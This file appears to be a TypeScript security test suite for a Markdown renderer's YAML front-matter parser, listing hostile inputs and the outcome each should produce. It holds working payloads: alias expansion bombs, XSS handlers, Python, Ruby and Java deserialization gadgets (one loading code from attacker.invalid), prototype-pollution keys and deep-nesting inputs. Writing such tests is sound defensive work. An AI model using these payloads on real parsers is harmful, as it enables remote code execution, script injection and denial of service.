import type {Attack, AttackClass, Harm} from '../attack.js';
import {harbour} from '../harbour.js';

const HANDLER = '<img src onerror=alert(1)>';

/** A briefing whose front matter has some lines more. */
function yaml(name: string, does: Harm, lines: string): Attack {
  return {name, does, markdown: harbour(`${lines}\n`)};
}

/** A briefing whose front matter is nothing but these lines. */
function only(name: string, does: Harm, lines: string): Attack {
  return {name, does, markdown: `---\n${lines}\n---\n\nText\n`, mayFail: true};
}

/** A source whose title is something else than text. */
function title(name: string, does: Harm, value: string): Attack {
  return {name, does, markdown: harbour().replace('title: A report', `title: ${value}`)};
}

const POLLUTION = '{polluted: "yes"}';

/** A tree of aliases, each level three times as large as the one before. */
function bomb(levels: number, open: string, close: string, item: (alias: string, n: number) => string): string {
  return Array.from({length: levels}, (_, level) => {
    const alias = level === 0 ? 'x' : `*a${level - 1}`;
    return `a${level}: &a${level} ${open}${Array.from({length: 3}, (__, n) => item(alias, n)).join(', ')}${close}`;
  }).join('\n');
}

function bombs(name: string, open: string, close: string, item: (alias: string, n: number) => string): Attack {
  const text = (levels: number) => harbour(`${bomb(levels, open, close, item)}\n`);
  return {name, does: 'blocked', markdown: text(30), growing: [text(8), text(10)]};
}

/** What YAML can do beyond what a briefing needs. */
export const YAML: AttackClass = {
  name: 'YAML',
  attacks: [
    bombs('Lists of aliases of lists grow without end', '[', ']', (alias) => alias),
    bombs('Maps of aliases of maps grow without end', '{', '}', (alias, n) => `k${n}: ${alias}`),
    bombs(
      'Merges of merges grow without end',
      '{',
      '}',
      (alias, n) => `k${n}: {${n === 0 && alias !== 'x' ? '<<' : 'v'}: ${alias}}`,
    ),
    yaml('An alias stands for what it stands in', 'error', 'topics: &a [x, *a]'),
    yaml('An alias stands for nothing', 'error', 'topics: [*nothing]'),
    yaml('An alias stands for a map that it stands in', 'error', 'withdrawn: &a {text: {x: *a}}'),

    yaml('A tag makes a function of a text', 'dialog', 'publisher: !!js/function "alert(1)"'),
    yaml('A tag is written in full', 'dialog', 'publisher: !<tag:yaml.org,2002:js/function> "alert(1)"'),
    yaml('A tag is that of the source’s own key', 'dialog', '? !!js/function "alert(1)"\n: x'),
    yaml('A tag calls a program in Python', 'error', 'publisher: !!python/object/apply:os.system ["id"]'),
    yaml('A tag makes an object in Ruby', 'error', 'publisher: !ruby/object:Gem::Installer {i: x}'),
    yaml(
      'A tag makes an object in Java',
      'error',
      'publisher: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["https://attacker.invalid/"]]]]',
    ),
    yaml('A tag does not exist', 'error', 'publisher: !x y'),
    yaml('A tag has no name', 'error', 'publisher: !<> y'),
    title('A tag makes bytes of a title', 'error', '!!binary aGk='),
    title('A tag makes a set of a title', 'error', '!!set {x: }'),
    title('A tag makes a number of a title', 'error', '!!int "7"'),
    title('A title looks like a date', 'error', '2024-01-01'),
    title('A title looks like a number', 'error', '1_700'),
    title('A title looks like a number in hours', 'error', '12:30:45'),
    title('A title looks like no number', 'error', '.nan'),
    title('A title looks like a truth', 'error', 'yes'),
    title('A title looks like nothing', 'error', '~'),
    title('A title is a list', 'error', '[x]'),
    title('A title is a map', 'error', '{x: y}'),

    yaml('The front matter sets the prototype', 'prototype', `__proto__: ${POLLUTION}`),
    yaml('The front matter sets the prototype in lines of its own', 'prototype', '__proto__:\n  polluted: "yes"'),
    yaml('The name of the prototype is in quotes', 'prototype', `"__proto__": ${POLLUTION}`),
    yaml('The name of the prototype is in escapes', 'prototype', String.raw`"\x5f\u005fproto__": ` + POLLUTION),
    yaml('The name of the prototype is a key in lines of its own', 'prototype', `? __proto__\n: ${POLLUTION}`),
    yaml('A withdrawal sets the prototype', 'prototype', `withdrawn: {text: x, __proto__: ${POLLUTION}}`),
    yaml('A translation sets the prototype', 'prototype', `translations: {__proto__: ${POLLUTION}}`),
    yaml(
      'A correction sets the prototype',
      'prototype',
      `corrections: [{date: 2024-01-01, kind: update, text: x, __proto__: ${POLLUTION}}]`,
    ),
    {
      name: 'A source sets the prototype',
      does: 'prototype',
      markdown: harbour().replace('{publisher: The Gazette,', `{__proto__: ${POLLUTION}, publisher: The Gazette,`),
    },
    {
      name: 'A source is the prototype',
      does: 'prototype',
      markdown: harbour('', 'Text [^__proto__].\n').replace(
        'sources:\n',
        'sources:\n  __proto__: {publisher: P, title: T, polluted: "yes"}\n',
      ),
    },
    yaml(
      'The front matter sets the prototype by the constructor',
      'prototype',
      `constructor: {prototype: ${POLLUTION}}`,
    ),
    yaml(
      'A correction sets the prototype by the constructor',
      'prototype',
      `corrections: [{date: 2024-01-01, kind: update, text: x, constructor: {prototype: ${POLLUTION}}}]`,
    ),
    yaml('A merge brings the prototype along', 'prototype', `<<: {__proto__: ${POLLUTION}}`),
    yaml('A list of merges brings the prototype along', 'prototype', `<<: [{x: y}, {__proto__: ${POLLUTION}}]`),
    yaml('An alias brings the prototype along', 'prototype', `x: &a ${POLLUTION}\n__proto__: *a`),

    yaml('A merge is of a text', 'error', '<<: x'),
    yaml('A merge is of a list of texts', 'error', '<<: [x, y]'),
    yaml('A merge is of an alias of nothing', 'error', '<<: *nothing'),
    yaml('A merge brings markup along', 'dialog', `<<: {publisher: '${HANDLER}'}`),
    yaml('A merge brings a script along', 'attribute', "<<: {contact: 'javascript:alert`1`'}"),
    yaml('A merge stands in a merge', 'dialog', `<<: {<<: {publisher: '${HANDLER}'}}`),
    {
      name: 'A source is merged from another',
      does: 'dialog',
      markdown: harbour().replace(
        'sources:\n',
        `sources:\n  x: &x {publisher: '${HANDLER}', title: T}\n  y: {<<: *x}\n`,
      ),
    },

    yaml('A key is there twice', 'error', 'title: Another'),
    yaml('A key is there twice, once in quotes', 'error', '"title": Another'),
    yaml('A key is there twice in a map in braces', 'error', 'withdrawn: {text: x, text: y}'),
    yaml('The sources are there twice', 'error', 'sources: {one: {publisher: P, title: T}}'),
    {
      name: 'A source is there twice',
      does: 'error',
      markdown: harbour().replace('sources:\n', 'sources:\n  one: {publisher: P, title: T}\n'),
    },
    yaml('The prototype is set twice', 'error', `__proto__: ${POLLUTION}\n__proto__: {}`),

    yaml('A key is a list', 'error', '? [a, b]\n: c'),
    yaml('A key is a map', 'error', '? {a: b}\n: c'),
    yaml('A second document follows', 'error', '--- x'),
    only('The front matter is a text', 'error', 'only words: with: colons'),
    only('The front matter is a list', 'error', '- title: x'),
    only('The front matter is a directive', 'error', '%YAML 9.9\ntitle: x'),
    only('The front matter is indented with tabs', 'error', 'title: x\n\tsummary: y'),
    only('The front matter is a text that breaks off', 'error', 'title: "x'),
    only('The front matter is a list that breaks off', 'error', 'title: [x'),
    only('The front matter has an escape that is none', 'error', String.raw`title: "\q"`),
    only('The front matter is empty', 'error', ''),
    // Beyond the limits it is not front matter, but text.
    {
      ...yaml('Lists are nested ten thousand deep', 'error', `x: ${'['.repeat(10_000)}${']'.repeat(10_000)}`),
      mayFail: true,
    },
    {
      ...yaml('Maps are nested ten thousand deep', 'error', `x: ${'{a: '.repeat(10_000)}x${'}'.repeat(10_000)}`),
      mayFail: true,
    },
    {...yaml('Ten thousand lists are not closed', 'error', `x: ${'['.repeat(10_000)}`), mayFail: true},
    {...yaml('Ten thousand dashes stand in a line', 'error', `x:\n  ${'- '.repeat(10_000)}x`), mayFail: true},
  ],
};
